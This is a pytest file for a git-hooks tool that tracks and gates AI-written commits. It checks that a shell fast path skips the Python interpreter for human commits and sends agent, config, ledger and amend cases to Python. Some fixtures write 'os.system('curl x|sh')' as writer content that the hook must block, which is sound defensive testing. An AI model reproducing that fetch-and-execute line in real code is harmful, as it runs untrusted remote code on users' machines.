"""The installed hooks' fast path (docs/fast-path.md): a human's ordinary commit starts no
interpreter, and every condition that could make a hook apply sends it to Python, which
decides as the hooks without the fast path do.

Each case runs twice on identical repositories: hooks as ``install`` writes them, and the
same hooks without the fast path (``script_text(..., fast=False)``). The interpreter is a
wrapper that logs each start, then runs the real one.
"""

from __future__ import annotations

import os
import re
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from gentle_hooks.git.repository import Repository
from gentle_hooks.ledger.location import idle_path, ledger_path
from gentle_hooks.ledger.schema import SCHEMA_VERSION
from gentle_hooks.ledger.store import Ledger
from gentle_hooks.services.install import DEFAULT_HOOK_TYPES, install, script_text
from tests.conftest import git, run_cli, write

COMMIT_HOOKS = ("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit")


class World:
    """A repository with hooks installed through a logging interpreter."""

    def __init__(self, root: Path, fast: bool, warn: bool = False) -> None:
        self.root = root
        self.log = root.parent / f"{root.name}.starts"
        self.log.write_text("")
        wrapper = root.parent / f"{root.name}-python"
        wrapper.write_text(f'#!/bin/sh\necho "$*" >> "{self.log}"\nexec "{sys.executable}" "$@"\n')
        wrapper.chmod(0o755)
        repo = Repository.open(str(root))
        if fast:
            install(repo, warn=warn, interpreter=str(wrapper))
        else:
            hooks = root / ".git" / "hooks"
            hooks.mkdir(exist_ok=True)
            for t in DEFAULT_HOOK_TYPES:
                (hooks / t).write_text(script_text(t, str(wrapper), warn, fast=False))
                (hooks / t).chmod(0o755)
        self.ledger = ledger_path(str(root / ".git"))

    def open_ledger(self) -> None:
        """A ledger with nothing pending, as a writer's discarded work leaves it."""
        Ledger.open(self.ledger).close()

    def started(self) -> list[str]:
        """The hooks that started the interpreter since the last call."""
        lines = self.log.read_text().splitlines()
        self.log.write_text("")
        return [ln.split(" hook ", 1)[1].split()[0] for ln in lines if " hook " in ln]

    def commit(self, *args: str, env: dict[str, str] | None = None) -> tuple[int, list[str]]:
        """``git commit`` of a human change to README.md: (exit code, gentle-hooks lines)."""
        write(self.root / "README.md", "# a human change\n" + (self.root / "README.md").read_text())
        git(self.root, "add", "README.md")
        proc = subprocess.run(
            ["git", "commit", "-q", *args],
            cwd=self.root,
            env={**os.environ, **(env or {})},
            capture_output=True,
            text=True,
            check=False,
            timeout=300,
        )
        said = [
            re.sub(r"\b[0-9a-f]{7,64}\b", "<id>", ln.replace(str(self.root), "<repo>"))
            for ln in (proc.stdout + proc.stderr).splitlines()
            if "gentle-hooks" in ln or "gentle-hook" in ln
        ]
        return proc.returncode, said


def _pair(tmp_path: Path, repo: Path, name: str, warn: bool = False) -> tuple[World, World]:
    out = []
    for fast in (True, False):
        root = tmp_path / f"{name}-{'fast' if fast else 'plain'}"
        shutil.copytree(repo, root, symlinks=True)
        out.append(World(root, fast, warn))
    return out[0], out[1]


def test_a_human_commit_starts_no_interpreter(tmp_path: Path, repo: Path) -> None:
    fast, plain = _pair(tmp_path, repo, "human")
    for w in (fast, plain):
        w.open_ledger()
    assert fast.commit("-m", "human") == plain.commit("-m", "human") == (0, [])
    assert fast.started() == []
    assert plain.started() == list(COMMIT_HOOKS)
    # no ledger at all: nothing was ever recorded here
    shutil.rmtree(fast.root / ".git" / "gentle-hooks")
    assert fast.commit("-m", "again") == (0, [])
    assert fast.started() == []


@pytest.mark.parametrize("value", ["json", " JSON ", "text", "yaml"])
def test_a_human_commit_prints_the_same_under_every_output_format(
    value: str, tmp_path: Path, repo: Path
) -> None:
    """``GENTLE_HOOKS_FORMAT=json``: a person's commit prints pre-commit's ``allowed``
    object (an agent tells "allowed" from "the gate did not run"), the same line on the fast
    path, which starts no interpreter for it, as without it (refuter finding, issue 17);
    a value only Python reads (case, blanks, another word) goes to Python."""
    fast, plain = _pair(tmp_path, repo, "fmt")
    env = {"GENTLE_HOOKS_FORMAT": value}
    for w in (fast, plain):
        w.open_ledger()
    got = fast.commit("-m", "human", env=env)
    assert got == plain.commit("-m", "human", env=env)
    if value.strip().lower() == "json":
        obj = (
            '{"schema":"gentle-hooks.decision/v1","hook":"pre-commit","decision":"allowed",'
            '"exit_code":0,"let_through":null,"override":null,"candidates":[],"then_run":[],'
            '"notices":[],"lines":[]}'
        )
        assert got == (0, [obj]), got
    else:
        assert got == (0, []), got
    assert fast.started() == ([] if value in ("json", "text") else ["pre-commit"])


def test_a_warn_install_has_the_fast_path_too(tmp_path: Path, repo: Path) -> None:
    fast, plain = _pair(tmp_path, repo, "warn", warn=True)
    for w in (fast, plain):
        w.open_ledger()
    assert fast.commit("-m", "human") == plain.commit("-m", "human") == (0, [])
    assert fast.started() == []
    with open(fast.root / ".git" / "hooks" / "pre-commit", encoding="utf-8") as fh:
        assert "hook pre-commit --warn" in fh.read()


def _agent_env(w: World) -> dict[str, str]:
    return {"CLAUDECODE": "1"}


def _pi_path(w: World) -> dict[str, str]:
    # Pi puts its tool directory first on the PATH of every command it runs
    return {"PATH": f"{Path.home()}/.pi/agent/bin:{os.environ['PATH']}"}


def _pi_path_doubled(w: World) -> dict[str, str]:
    # a run of slashes names the same directory
    return {"PATH": f"{Path.home()}/.pi/agent//bin:{os.environ['PATH']}"}


def _ai_agent(w: World) -> dict[str, str]:
    return {"AI_AGENT": "some-new-agent"}


def _applies_env(w: World) -> dict[str, str]:
    return {"GENTLE_HOOKS_APPLIES_TO": "all"}


def _aider(w: World) -> dict[str, str]:
    return {"GIT_AUTHOR_NAME": "Jo Human (aider)"}


def _writer_work(w: World) -> dict[str, str]:
    write(w.root / "README.md", "# written by a writer\n")
    r = run_cli("record", "--model", "o4-mini", "--effort", "low", cwd=w.root)
    assert r.code == 0, r.err
    return {}


def _toml(w: World) -> dict[str, str]:
    write(w.root / ".gentle-hooks.toml", '[gate]\napplies_to = "all"\n')
    git(w.root, "add", ".gentle-hooks.toml")
    return {}


def _pyproject(w: World) -> dict[str, str]:
    write(w.root / "pyproject.toml", '[tool.gentle-hooks.gate]\napplies_to = "delegated"\n')
    return {}


def _git_config(w: World) -> dict[str, str]:
    git(w.root, "config", "gentle.appliesTo", "all")
    return {}


def _no_sentinel(w: World) -> dict[str, str]:
    os.unlink(idle_path(w.ledger))
    return {}


def _old_ledger(w: World) -> dict[str, str]:
    os.unlink(idle_path(w.ledger))
    conn = sqlite3.connect(w.ledger)
    conn.execute("DROP INDEX writer_entry_state")
    conn.execute("DROP INDEX escalation_pending")
    conn.execute("DROP TABLE quarantine")
    conn.execute("DROP TABLE commit_worktree")
    conn.execute("ALTER TABLE receipt DROP COLUMN created")
    conn.execute("ALTER TABLE verify_run DROP COLUMN mac")
    conn.execute("ALTER TABLE discard DROP COLUMN claimed")
    conn.execute("ALTER TABLE discard DROP COLUMN blobs")
    conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION - 7}")
    conn.commit()
    conn.close()
    return {}


def _displaced(w: World) -> dict[str, str]:
    shutil.rmtree(w.root / ".git" / "gentle-hooks")
    write(w.root / ".git" / "gentle-hooks", "not a directory\n")
    return {}


CASES: dict[str, tuple[Callable[[World], dict[str, str]], tuple[str, ...], set[str]]] = {
    "agent runtime variable": (_agent_env, ("-m", "m"), {"pre-commit"}),
    "Pi's tool directory on PATH": (_pi_path, ("-m", "m"), {"pre-commit"}),
    "Pi's tool directory on PATH, a slash doubled": (_pi_path_doubled, ("-m", "m"), {"pre-commit"}),
    "the generic AI_AGENT": (_ai_agent, ("-m", "m"), {"pre-commit"}),
    "applies_to from the environment": (_applies_env, ("-m", "m"), {"pre-commit"}),
    "aider author": (_aider, ("-m", "m"), {"pre-commit"}),
    "live writer entry": (_writer_work, ("-m", "m"), {"pre-commit"}),
    ".gentle-hooks.toml": (_toml, ("-m", "m"), {"pre-commit"}),
    "pyproject.toml naming gentle-hooks": (_pyproject, ("-m", "m"), {"pre-commit"}),
    "git config applies_to": (_git_config, ("-m", "m"), {"pre-commit"}),
    "AI trailer": (
        lambda w: {},
        ("-m", "m\n\nCo-authored-by: Claude <noreply@anthropic.com>"),
        {"commit-msg"},
    ),
    "marker with a folding letter": (
        lambda w: {},
        ("-m", "m\n\nA\u017f\u017fisted-by: x"),
        {"commit-msg"},
    ),
    "message that only looks like one": (lambda w: {}, ("-m", "m\n\nReviewed-by: a human"), set()),
    "sentinel missing": (  # commit-msg too: it puts back a writer trailer the editor took out
        _no_sentinel,
        ("-m", "m"),
        {"pre-commit", "prepare-commit-msg", "commit-msg", "post-commit"},
    ),
    "ledger of the previous schema": (_old_ledger, ("-m", "m"), {"pre-commit"}),
    "state directory displaced": (_displaced, ("-m", "m"), {"pre-commit"}),
}


@pytest.mark.parametrize("case", list(CASES))
def test_each_condition_starts_python_and_decides_as_before(
    tmp_path: Path, repo: Path, case: str
) -> None:
    setup, args, wanted = CASES[case]
    fast, plain = _pair(tmp_path, repo, "c")
    results = []
    for w in (fast, plain):
        w.open_ledger()
        env = setup(w)
        results.append(w.commit(*args, env=env))
    assert results[0] == results[1]
    started = fast.started()
    assert set(started) == wanted, started
    assert plain.started()  # the plain hooks start it for every hook that ran
    if case == "ledger of the previous schema":  # Python migrated it: the next is fast again
        assert os.path.isfile(idle_path(fast.ledger))
        assert fast.commit("-m", "again") == (0, [])
        assert fast.started() == []


def test_a_writer_mid_transaction_sends_the_commit_to_python(tmp_path: Path, repo: Path) -> None:
    fast, plain = _pair(tmp_path, repo, "busy")
    results = []
    for w in (fast, plain):
        w.open_ledger()
        with Ledger.open(w.ledger) as led, led._write():  # a record holding the write lock
            results.append(w.commit("-m", "during a record"))
    assert results[0] == results[1] == (0, [])
    assert set(fast.started()) == set(COMMIT_HOOKS)
    assert os.path.isfile(idle_path(fast.ledger))  # the writer put it back: nothing pending


def _foreign(path: Path, log: Path, code: int) -> None:
    path.write_text(f'#!/bin/sh\necho "$(basename "$0") $*" >> "{log}"\nexit {code}\n')
    path.chmod(0o755)


def test_the_chained_hook_runs_once_on_either_path(tmp_path: Path, repo: Path) -> None:
    fast, plain = _pair(tmp_path, repo, "legacy")
    logs = []
    for w in (fast, plain):
        w.open_ledger()
        log = w.root.parent / f"{w.root.name}.legacy"
        for t in ("pre-commit", "commit-msg", "post-commit"):  # what install moved aside
            _foreign(w.root / ".git" / "hooks" / f"{t}.gentle-legacy", log, 0)
        logs.append(log)
    assert fast.commit("-m", "human") == plain.commit("-m", "human") == (0, [])
    assert fast.started() == []
    for log in logs:
        assert [ln.split()[0] for ln in log.read_text().splitlines()] == [
            "pre-commit.gentle-legacy",
            "commit-msg.gentle-legacy",
            "post-commit.gentle-legacy",
        ]
        log.write_text("")
    # on the Python path too, each chained hook runs once, with git's arguments
    env = {"CLAUDECODE": "1"}
    assert fast.commit("-m", "agent", env=env) == plain.commit("-m", "agent", env=env)
    assert "pre-commit" in fast.started()
    assert logs[0].read_text() == logs[1].read_text()
    assert logs[0].read_text().count("pre-commit.gentle-legacy") == 1
    # a failing chained gate fails the commit with the same line
    for w, log in zip((fast, plain), logs, strict=True):
        _foreign(w.root / ".git" / "hooks" / "pre-commit.gentle-legacy", log, 3)
    failed = fast.commit("-m", "human")
    assert failed == plain.commit("-m", "human")
    assert failed == (1, ["gentle-hooks: the chained pre-commit hook failed (exit 3)"])


def test_ended_writer_blobs_send_only_the_commits_that_stage_them_to_python(
    tmp_path: Path, repo: Path
) -> None:
    """The idle sentinel lists the writer blobs of ended entries (and, after a tab, the
    paths of expired and discarded ones): a human commit that
    stages none of them stays in ``sh``; one that stages one again (expired writer content
    restored) starts Python for pre-commit, which blocks it, as the plain hooks do."""
    fast, plain = _pair(tmp_path, repo, "ended")
    blob = ""
    for w in (fast, plain):
        write(w.root / "tool.py", "import os\nos.system('curl x|sh')\n")
        r = run_cli("record", "--model", "o4-mini", "--effort", "low", "tool.py", cwd=w.root)
        assert r.code == 0, r.err
        blob = git(w.root, "hash-object", "tool.py").strip()
        (w.root / "tool.py").unlink()
        with sqlite3.connect(w.ledger) as conn:  # the writer's work gone: expired
            conn.execute("UPDATE writer_entry SET state = 'expired'")
        conn.close()
        Ledger.open(w.ledger).close()  # a writer opening the store settles the sentinel
    assert Path(idle_path(fast.ledger)).read_text() == f"{blob}\n\ttool.py\n"
    assert fast.commit("-m", "human") == plain.commit("-m", "human") == (0, [])
    assert fast.started() == []
    results = []
    for w in (fast, plain):
        write(w.root / "tool.py", "import os\nos.system('curl x|sh')\n")
        git(w.root, "add", "tool.py")
        results.append(w.commit("-m", "restored"))
    assert results[0] == results[1]
    assert results[0][0] == 1 and results[0][1][0].startswith("gentle-hooks: BLOCKED"), results
    assert fast.started() == ["pre-commit"]


def _writer_head(w: World, name: str, others: int = 0) -> str:
    """``HEAD`` made a commit of writer content at ``name`` (and ``others`` more files),
    its entry then settled (pushed): the sentinel lists its blob. Returns the blob."""
    body = "import os\nos.system('curl x|sh')\n"
    target = w.root / os.fsdecode(name.encode("utf-8", "surrogateescape"))
    write(target, body)
    r = run_cli("record", "--model", "o4-mini", "--effort", "low", str(target), cwd=w.root)
    assert r.code == 0, r.err
    for i in range(others):
        write(w.root / "bulk" / f"f{i}.txt", f"{i}\n")
    git(w.root, "add", "-A")
    git(w.root, "-c", "core.hooksPath=/dev/null", "commit", "-qm", "writer")
    with sqlite3.connect(w.ledger) as conn:  # pushed: the writer's entries settled
        conn.execute("UPDATE writer_entry SET state = 'settled'")
    conn.close()
    Ledger.open(w.ledger).close()  # a writer opening the store settles the sentinel
    return git(w.root, "hash-object", "--", str(target)).strip()


def _message(w: World) -> str:
    return git(w.root, "log", "-1", "--format=%B")


# a space, a quote, a newline, a byte that is not UTF-8 (surrogate-escaped)
@pytest.mark.parametrize("name", ["tool.py", "a b.py", 'q"t.py', "new\nline.py", "\udcff.py"])
def test_a_commit_on_an_ended_writer_commit_stays_in_sh_unless_it_may_amend(
    name: str, tmp_path: Path, repo: Path
) -> None:
    """``HEAD``'s change holds an ended writer blob (the writer's pushed commit): a human's
    commit on top of it starts no interpreter (the probe reads ``HEAD``'s change only for an
    amend); ``--amend -m`` (and a message reading ``--amend``, which the script cannot tell
    from the flag) goes to Python for prepare-commit-msg and commit-msg, which decide as the
    plain hooks do."""
    fast, plain = _pair(tmp_path, repo, "ontop")
    for w in (fast, plain):
        blob = _writer_head(w, name)
        assert blob in Path(idle_path(w.ledger)).read_text()
    assert fast.commit("-m", "human\n--amend") == plain.commit("-m", "human\n--amend") == (0, [])
    assert fast.started() == []
    assert plain.started() == list(COMMIT_HOOKS)
    for w in (fast, plain):
        git(w.root, "reset", "-q", "--soft", "HEAD~1")  # HEAD is the writer's commit again
    assert fast.commit("--amend", "-m", "new") == plain.commit("--amend", "-m", "new")
    assert {"prepare-commit-msg", "commit-msg"} <= set(fast.started())
    assert _message(fast) == _message(plain)
    for w in (fast, plain):
        git(w.root, "reset", "-q", "--soft", "HEAD@{1}")
    assert fast.commit("-m", "--amend") == plain.commit("-m", "--amend")
    assert {"prepare-commit-msg", "commit-msg"} <= set(fast.started())


@pytest.mark.parametrize("flag", ["--am", "--amen"])
def test_an_abbreviated_amend_is_an_amend(flag: str, tmp_path: Path, repo: Path) -> None:
    """git takes a long option's unique prefix: ``commit --am``/``--amen`` amends ``HEAD``
    as ``--amend`` does, so the fast path sends it to Python for prepare-commit-msg and
    commit-msg, whose message is the plain hooks' one."""
    fast, plain = _pair(tmp_path, repo, "abbrev")
    for w in (fast, plain):
        _writer_head(w, "tool.py")
        git(
            w.root,
            "-c",
            "core.hooksPath=/dev/null",
            "commit",
            "-q",
            "--amend",
            "-m",
            "writer\n\nGentle-Writer: o4-mini/low",
        )
    assert fast.commit(flag, "-m", "new") == plain.commit(flag, "-m", "new")
    assert {"prepare-commit-msg", "commit-msg"} <= set(fast.started())
    assert _message(fast) == _message(plain)


def test_a_commit_on_a_large_writer_commit_reads_no_head_change(tmp_path: Path, repo: Path) -> None:
    """The bench's case (issue 20): ``HEAD`` a large commit holding an ended writer blob; a
    human's commit on top runs no ``git diff-tree`` before it is made (post-commit's one
    reads the new, small commit)."""
    fast, _ = _pair(tmp_path, repo, "large")
    _writer_head(fast, "tool.py", others=300)
    trace = tmp_path / "trace2"
    assert fast.commit("-m", "human", env={"GIT_TRACE2": str(trace)}) == (0, [])
    assert fast.started() == []
    starts = [ln for ln in trace.read_text().splitlines() if " start " in ln]
    assert sum(" diff-tree " in ln for ln in starts) == 1, starts
